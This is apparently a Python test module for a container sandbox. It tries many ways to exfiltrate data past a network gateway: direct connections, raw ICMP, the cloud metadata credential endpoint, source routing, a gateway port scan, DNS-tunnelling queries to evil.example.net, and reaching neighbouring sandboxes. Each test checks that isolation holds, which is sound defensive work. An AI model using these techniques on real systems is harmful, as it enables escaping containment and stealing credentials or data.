"""Exfiltration past the gateway: straight to addresses, over other protocols, by name servers, through neighbours.

Every address here belongs to the world that the tests make around an engine of their own (`tests/attacks/world.py`).
"""

from __future__ import annotations

import contextlib
import errno
import ipaddress
import os
import select
import socket
import struct
import time

from tests.attacks.inside.record import EXFILTRATION, attack, held, name_of, won

SERVER, OTHER, NAMES, PRIVATE, METADATA = "198.41.0.10", "198.41.0.11", "198.41.0.53", "10.50.0.10", "169.254.169.254"
TCP, UDP, SHARED = 5998, 5999, 8080
NO_WAY_OUT = "the sandbox's only network is internal: only its gateway is reachable"
SEALED = "the host has no address on the sandbox's network (inhibit_ipv4)"
NOTHING = "ENETUNREACH|EHOSTUNREACH|no answer"
PATIENCE = 1.5


def _tcp(*targets: tuple[str, int], prepare: object = None) -> str:
    """Connect to all at once; won by the first that answers."""
    waiting: dict[socket.socket, tuple[str, int]] = {}
    seen = set()
    for target in targets:
        sock = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
        sock.setblocking(False)
        if prepare is not None:
            prepare(sock)  # type: ignore[operator]
        code = sock.connect_ex(target)
        if code in (0, errno.EINPROGRESS):
            waiting[sock] = target
        else:
            seen.add(errno.errorcode[code])
    until = time.monotonic() + PATIENCE
    while waiting and (left := until - time.monotonic()) > 0:
        for sock in select.select([], waiting, [], left)[1]:
            target = waiting.pop(sock)
            if (code := sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)) == 0:
                return won(f"connected to {target}")
            seen.add(errno.errorcode[code])
    return held(", ".join(sorted(seen | ({"no answer"} if waiting else set()))))


def _udp(target: tuple[str, int], data: bytes, *, prepare: object = None) -> str:
    """Send, and wait for an answer. What got there without one is found out at the other end."""
    with socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        if prepare is not None:
            prepare(sock)  # type: ignore[operator]
        sock.sendto(data, target)
        try:
            return won(sock.recvfrom(4096))
        except TimeoutError:
            return held("no answer")


def _host() -> list[str]:
    return os.environ["HOST_ADDRESSES"].split()


def _own() -> str:
    """The sandbox's own address."""
    with contextlib.suppress(OSError):
        return socket.gethostbyname(socket.gethostname())
    return ""


def _default_router() -> str:
    """Where the route to everywhere leads: the bridge, by habit. Without one, the first address of the network."""
    first = ""
    with open("/proc/net/route") as file:
        for line in file.readlines()[1:]:
            words = line.split()
            if words[1] == "00000000":
                return socket.inet_ntoa(bytes.fromhex(words[2])[::-1])
            first = str(ipaddress.IPv4Address(bytes.fromhex(words[1])[::-1]) + 1)
    return first


# -- addresses ------------------------------------------------------------------------------------------------------


@attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
def straight_by_tcp() -> str:
    """connect to an address outside, even an allowed host's"""
    return _tcp((OTHER, 443), (SERVER, 443))


@attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
def straight_by_udp() -> str:
    """send it over UDP"""
    return _udp((OTHER, UDP), b"udp")


@attack(EXFILTRATION, "seccomp: no ICMP and no raw sockets; no way out either", "EPERM", cage="allow")
def by_ping() -> str:
    """send it in pings"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(PATIENCE)
        head = struct.pack(">BBHHH", 8, 0, 0xF7FF - 1, 0, 1)
        sock.sendto(head, (OTHER, 0))
        return won(sock.recvfrom(999)[1])


@attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
def metadata_straight() -> str:
    """ask the cloud's metadata address for the machine's credentials"""
    return _tcp((METADATA, 80))


@attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
def private_straight() -> str:
    """reach into the private networks around the host"""
    return _tcp((PRIVATE, 443), (PRIVATE, 80))


@attack(EXFILTRATION, SEALED, NOTHING, cage="allow")
def host_by_the_bridge() -> str:
    """reach the host's services by the bridge's own address"""
    return _tcp((_default_router(), TCP))


@attack(EXFILTRATION, f"{SEALED}; {NO_WAY_OUT}", NOTHING, cage="allow")
def host_by_its_addresses() -> str:
    """reach the host's services by the host's other addresses"""
    return _tcp(*((address, TCP) for address in _host()))


@attack(EXFILTRATION, f"{SEALED}, so it answers to no address there", NOTHING, cage="allow")
def host_on_the_link() -> str:
    """bind a socket to the interface, so that the kernel treats every address as on-link"""

    def bind(sock: socket.socket) -> None:
        sock.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0")

    said = _udp((_host()[0], UDP), b"on the link", prepare=bind)
    return said if said.startswith("won") else _tcp(*((address, TCP) for address in _host()), prepare=bind)


@attack(
    EXFILTRATION,
    "source routes need a capability (NET_RAW); the gateway's kernel accepts none and forwards nothing",
    f"EPERM|{NOTHING}",
    cage="allow",
    control="today's routers drop source routes, in the weak sandbox too",
)
def source_route() -> str:
    """route each packet through the gateway (IP source routing)"""
    through = _gateway()

    def route(sock: socket.socket) -> None:
        hops = socket.inet_aton(through) + socket.inet_aton(OTHER)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x01\x83" + bytes([3 + len(hops), 4]) + hops)

    return _tcp((through, 443), (OTHER, 443), prepare=route)


def _gateway() -> str:
    return os.environ.get("GATEWAY") or socket.gethostbyname("api.example.com")


@attack(EXFILTRATION, "sandbox networks and interfaces have no IPv6", "EADDRNOTAVAIL|ENETUNREACH|ENODEV",
        cage="allow", control="the engine's own networks have no IPv6 by default either")  # fmt: skip
def by_ipv6() -> str:
    """use IPv6 to reach anything on the link (ff02::1)"""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.sendto(b"x", ("ff02::1", UDP, 0, socket.if_nametoindex("eth0")))
        return won(sock.recvfrom(999))


@attack(
    EXFILTRATION,
    "a gateway listens for names and on the listed ports, and does nothing else",
    "no open port",
    cage="allow",
)
def other_ports_of_the_gateway() -> str:
    """look for other services on the gateway's machine"""
    host, listed = _gateway(), (53, 80, 443, TCP)
    open_ports = []
    for other in (*range(1, 1100), 2375, 2376, 5355, 8080, 8443, 9000):
        with socket.socket() as sock:
            sock.settimeout(0.5)
            if other not in listed and sock.connect_ex((host, other)) == 0:
                open_ports.append(other)
    return won(open_ports) if open_ports else held("no open port")


# -- name servers ---------------------------------------------------------------------------------------------------


def _ask(server: str, name: str) -> str:
    """A question that carries something out in its name."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        sock.sendto(question, (server, 53))
        try:
            answer = sock.recvfrom(4096)[0]
        except TimeoutError:
            return held("no answer")
    code = answer[3] & 15
    if code in (2, 5) or (code == 3 and not os.environ.get("WEAK")):
        return held(f"answer {code} (no such name for a sandbox; no server outside was asked)")
    return won(f"answer {code}")


@attack(EXFILTRATION, "that resolver asks the gateway, and the gateway nobody", f"{NOTHING}|answer [23]|ECONNREFUSED",
        cage="allow")  # fmt: skip
def names_by_the_engines_resolver() -> str:
    """encode it in a name and query the engine's resolver, which forwards queries (127.0.0.11)"""
    return _ask("127.0.0.11", "secret-one.evil.example.net")


@attack(EXFILTRATION, "the gateway answers from the list, and asks nobody", f"{NOTHING}|answer [23]|ECONNREFUSED",
        cage="allow")  # fmt: skip
def names_by_resolv_conf() -> str:
    """the same through the servers in resolv.conf"""
    with open("/etc/resolv.conf") as file:
        servers = [line.split()[1] for line in file if line.startswith("nameserver")]
    said = [_ask(server, "secret-two.evil.example.net") for server in servers]
    return next((one for one in said if one.startswith("won")), said[0] if said else held("no answer"))


@attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
def names_by_a_server_outside() -> str:
    """query an outside name server directly"""
    return _ask(NAMES, "secret-three.evil.example.net")


@attack(EXFILTRATION, "a name that is not listed does not exist, and nobody is asked for it", "gaierror", cage="allow")
def names_by_the_library() -> str:
    """let the C library resolve a name that carries something out"""
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
    try:
        return won(socket.getaddrinfo("secret-four.evil.example.net", 443)[:1])
    except socket.gaierror as error:
        if error.errno == socket.EAI_NONAME and os.environ.get("WEAK"):
            return won("a server outside said that there is no such name")
        return held(f"gaierror {error.errno}")


# -- neighbours -----------------------------------------------------------------------------------------------------


@attack(EXFILTRATION, "every sandbox has its own network", NOTHING, cage="allow")
def another_sandbox() -> str:
    """reach another sandbox, which may have data that this one lacks"""
    return _tcp((os.environ["NEIGHBOUR"], SHARED))


@attack(EXFILTRATION, "every sandbox has its own network, on its gateway's side too", NOTHING, cage="allow")
def another_sandboxs_gateway() -> str:
    """use another sandbox's gateway, whose rules are wider"""
    return _tcp(*((address, int(os.environ["NEIGHBOUR_PORT"])) for address in os.environ["NEIGHBOUR_GATEWAY"].split()))


@attack(EXFILTRATION, f"{SEALED}; its kernel drops what it could not answer (rp_filter)", NOTHING, cage="allow")
def shout_to_the_host() -> str:
    """send broadcasts and multicasts, which reach the host without its address"""

    def shout(sock: socket.socket) -> None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)

    last = held("no answer")
    for address in ("255.255.255.255", "224.0.0.1"):
        try:
            last = _udp((address, UDP), b"shout", prepare=shout)
        except OSError as error:
            last = held(name_of(error))
        if last.startswith("won"):
            return last
    return last
